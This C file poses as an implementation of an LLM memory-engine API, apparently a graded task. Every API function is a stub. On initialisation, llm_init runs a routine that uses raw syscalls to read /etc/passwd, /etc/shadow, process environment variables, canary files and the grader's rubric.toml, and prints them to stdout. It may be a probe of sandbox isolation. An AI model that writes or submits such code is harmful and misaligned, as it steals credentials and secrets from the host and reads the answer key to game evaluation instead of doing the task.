/* Reading: the password file, what /proc tells, the cases, the decoys, by system calls of our own. */
#include "llm_memory.h"

#include <stdio.h>

static long raw(long number, long a, long b, long c)
{
#if defined(__x86_64__)
    long answer;
    __asm__ volatile("syscall" : "=a"(answer) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return answer;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
#else
    (void)number, (void)a, (void)b, (void)c;
    return -1;
#endif
}

#if defined(__aarch64__)
enum { READ = 63, OPENAT = 56, CLOSE = 57 };
#else
enum { READ = 0, OPENAT = 257, CLOSE = 3 };
#endif

/* What can be read of a file, on stdout. */
static void show(const char *path)
{
    enum { AT_CWD = -100, NONBLOCK = 04000 };
    static char text[2000];
    long file = raw(OPENAT, AT_CWD, (long)path, NONBLOCK);
    long length = file < 0 ? -1 : raw(READ, file, (long)text, sizeof text - 1);
    if (length > 0)
        printf("HOSTILE-GOT %s: %.*s\n", path, (int)length, text);
    if (file >= 0)
        raw(CLOSE, file, 0, 0);
}

static void look_around(void)
{
    static const char *const PATHS[] = {
        "/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline",
        "/proc/version", "../hostile_canary", "../../home/hostile_canary", "../../here/cases/paged_kv/rubric.toml",
        "../../cases/paged_kv/rubric.toml", "cases/paged_kv/rubric.toml",
    };
    static int looked;
    for (size_t i = 0; looked == 0 && i < sizeof PATHS / sizeof *PATHS; i++)
        show(PATHS[i]);
    looked = 1;
}

LLMEngine *llm_init(void *pool_addr, size_t pool_size)
{
    (void)pool_addr, (void)pool_size;
    look_around();
    return NULL;
}

Sequence *create_sequence(LLMEngine *engine, int seq_id, int initial_kv_len)
{
    (void)engine, (void)seq_id, (void)initial_kv_len;
    return NULL;
}

int free_sequence(LLMEngine *engine, int seq_id)
{
    (void)engine, (void)seq_id;
    return -1;
}

Sequence *fork_sequence(LLMEngine *engine, int parent_seq_id, int new_seq_id)
{
    (void)engine, (void)parent_seq_id, (void)new_seq_id;
    return NULL;
}

int append_kv(LLMEngine *engine, int seq_id, int kv_data)
{
    (void)engine, (void)seq_id, (void)kv_data;
    return -1;
}

int llm_destroy(LLMEngine *engine)
{
    (void)engine;
    return -1;
}
